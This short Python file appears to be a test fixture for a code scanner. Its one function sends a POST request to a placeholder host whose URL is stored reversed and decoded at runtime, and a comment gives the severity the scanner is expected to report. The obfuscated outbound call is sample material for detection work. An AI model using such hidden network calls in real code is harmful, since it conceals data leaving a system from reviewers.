import requests


def send():
    requests.post("ni/dilavni.elpmaxe.a//:sptth"[::-1])  # expect: source/decoded-command call medium
